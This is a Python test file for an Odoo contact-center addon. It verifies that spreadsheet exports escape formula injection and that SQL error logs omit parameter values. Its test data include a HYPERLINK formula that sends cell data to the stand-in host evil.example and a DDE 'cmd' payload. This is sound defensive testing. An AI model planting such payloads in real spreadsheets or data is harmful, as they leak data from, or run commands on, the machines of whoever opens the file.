# Copyright 2026 Contact Center Contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).

import csv
import io
import json
import logging

import openpyxl
import psycopg2

from odoo import http
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.contact_center import sql_log

from .common import ContactCenterCase

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"veja")'
NAMES = {
    EVIL: f"'{EVIL}",
    "@SUM(A1)": "'@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "{=SUM(A1:A9)}": "'{=SUM(A1:A9)}",
    "Ana = Bia": "Ana = Bia",
}
PHONE = "+55 31 98888-7777"


@tagged("post_install", "-at_install")
class TestSpreadsheets(ContactCenterCase, HttpCase):
    """Odoo's own exports: what citizens call themselves is no formula of the city's computers."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.people = cls.env["res.partner"].create(
            [{"name": name, "phone": PHONE, "function": EVIL} for name in NAMES]
        )
        cls.administrator.group_ids += cls.env.ref("base.group_allow_export")
        cls.administrator.password = "cc_administrator_1"

    def _export(self, kind, groupby=(), import_compat=False):
        self.authenticate("cc_administrator", "cc_administrator_1")
        data = {
            "model": "res.partner",
            "fields": [
                {"name": name, "label": label, "type": "char"}
                for name, label in (("name", "Nome"), ("phone", "=Telefone"), ("color", "Cor"))
            ],
            "ids": self.people.ids,
            "domain": [],
            "import_compat": import_compat,
            "groupby": list(groupby),
            "context": {},
        }
        response = self._post(f"/web/export/{kind}", data)
        self.assertEqual(response.status_code, 200)
        return response.content

    def _post(self, route, data):
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        return self.url_open(route, data=form)

    def _sheet(self, content):
        """Values of all cells, after looking that none is a formula."""
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", cell.value)
        return [[cell.value for cell in row] for row in sheet.iter_rows()]

    def test_list_as_csv(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode())))
        self.assertEqual(rows[0], ["Nome", "'=Telefone", "Cor"])
        self.assertEqual({row[0] for row in rows[1:]}, set(NAMES.values()))
        self.assertEqual({(row[1], row[2]) for row in rows[1:]}, {(PHONE, "0")})

    def test_list_as_xlsx(self):
        rows = self._sheet(self._export("xlsx"))
        self.assertEqual(rows[0], ["Nome", "'=Telefone", "Cor"])
        self.assertEqual({row[0] for row in rows[1:]}, set(NAMES.values()))
        self.assertEqual({(row[1], row[2]) for row in rows[1:]}, {(PHONE, 0)})

    def test_list_to_import_again(self):
        rows = self._sheet(self._export("xlsx", import_compat=True))
        self.assertEqual({row[0] for row in rows[1:]}, set(NAMES.values()))

    def test_grouped_list_as_xlsx(self):
        rows = self._sheet(self._export("xlsx", groupby=["function", "name"]))
        titles = {str(row[0]).strip() for row in rows}
        self.assertIn(f"'{EVIL} ({len(NAMES)})", titles)
        for name in NAMES.values():
            self.assertIn(name, titles)

    def test_pivot(self):
        self.authenticate("cc_administrator", "cc_administrator_1")
        data = {
            "title": "Contatos",
            "model": "res.partner",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[{"title": EVIL, "width": 1, "height": 1}]],
            "measure_headers": [{"title": "=1+1", "width": 1, "height": 1, "is_bold": True}],
            "rows": [
                {"title": EVIL, "indent": 0, "values": [{"value": -3, "is_bold": False}]},
                {"title": "@x", "indent": 1, "values": [{"value": PHONE, "is_bold": True}]},
            ],
        }
        response = self._post("/web/pivot/export_xlsx", data)
        values = [value for row in self._sheet(response.content) for value in row]
        self.assertEqual(values.count(f"'{EVIL}"), 2)
        self.assertIn(-3, values)
        self.assertIn(PHONE, values)

    @mute_logger("odoo.http")
    def test_what_is_no_pivot_is_refused(self):
        self.authenticate("cc_administrator", "cc_administrator_1")
        for data in ("", "x", "[]", "{}", "-1", '{"title": 1}', "[" * 5000, '{"title": "[x]"}'):
            answer = self.url_open("/web/pivot/export_xlsx", params={"data": data})
            self.assertEqual(answer.status_code, 422, data[:20])


@tagged("post_install", "-at_install")
class TestStatementsInLogs(ContactCenterCase):
    """A statement that PostgreSQL refuses tells no value to the log."""

    def test_bad_query_without_its_values(self):
        with self.assertLogs("odoo.sql_db", "ERROR") as logs:
            with self.assertRaises(psycopg2.Error), self.env.cr.savepoint():
                self.env.cr.execute(
                    "INSERT INTO ir_config_parameter (key, value) VALUES (%s, %s), (%s, %s)",
                    ["cc.twice", "secret-1", "cc.twice", "secret-2"],
                )
        text = "\n".join(logs.output)
        self.assertIn("INSERT INTO ir_config_parameter", text)
        self.assertIn("duplicate key", text)
        for value in ("secret-1", "secret-2", "cc.twice"):
            self.assertNotIn(value, text)

    @mute_logger("odoo.sql_db")
    def test_every_handler_of_the_server_is_filtered(self):
        sql_log.install()
        sql_log.install()
        for handler in logging.getLogger().handlers:
            filters = [one for one in handler.filters if isinstance(one, sql_log.TracebackFilter)]
            self.assertEqual(len(filters), 1)
